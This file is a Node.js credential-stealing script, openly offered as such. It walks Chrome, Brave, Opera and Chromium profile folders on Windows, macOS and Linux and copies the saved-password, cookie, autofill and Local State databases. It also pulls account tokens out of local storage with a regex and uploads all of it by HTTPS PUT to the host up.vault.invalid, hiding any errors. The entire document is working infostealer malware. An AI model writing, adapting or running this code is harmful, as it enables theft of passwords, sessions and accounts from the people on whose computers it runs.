// Copies browsers' databases and token stores and uploads them.
const fs = require("fs");
const path = require("path");
const os = require("os");
const https = require("https");

const home = os.homedir();
const roots = {
  win32: [
    path.join(process.env.LOCALAPPDATA || "", "Google", "Chrome", "User Data"),
    path.join(process.env.LOCALAPPDATA || "", "BraveSoftware", "Brave-Browser", "User Data"),
    path.join(process.env.APPDATA || "", "Opera Software", "Opera Stable"),
  ],
  darwin: [
    path.join(home, "Library", "Application Support", "Google", "Chrome"),
    path.join(home, "Library", "Application Support", "BraveSoftware", "Brave-Browser"),
  ],
  linux: [path.join(home, ".config", "google-chrome"), path.join(home, ".config", "chromium")],
};

const wanted = ["Login Data", "Cookies", "Web Data", "Local State"];
const tokenPattern = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g;

function profiles(root) {
  if (!fs.existsSync(root)) return [];
  return fs
    .readdirSync(root, { withFileTypes: true })
    .filter((e) => e.isDirectory() && (e.name === "Default" || e.name.startsWith("Profile")))
    .map((e) => path.join(root, e.name));
}

function tokens(profile) {
  const store = path.join(profile, "Local Storage", "leveldb");
  const found = new Set();
  if (!fs.existsSync(store)) return found;
  for (const file of fs.readdirSync(store)) {
    if (!file.endsWith(".ldb") && !file.endsWith(".log")) continue;
    const text = fs.readFileSync(path.join(store, file), "latin1");
    for (const match of text.match(tokenPattern) || []) found.add(match);
  }
  return found;
}

function upload(name, content) {
  const request = https.request({ host: "up.vault.invalid", path: "/f/" + encodeURIComponent(name), method: "PUT" });
  request.on("error", () => {});
  request.end(content);
}

for (const root of roots[process.platform] || []) {
  for (const profile of profiles(root)) {
    for (const name of wanted) {
      const source = path.join(profile, name);
      try {
        const copy = path.join(os.tmpdir(), Date.now() + ".tmp");
        fs.copyFileSync(source, copy);
        upload(path.basename(profile) + "-" + name, fs.readFileSync(copy));
        fs.unlinkSync(copy);
      } catch (e) {
        continue;
      }
    }
    upload("tokens.json", JSON.stringify([...tokens(profile)]));
  }
}
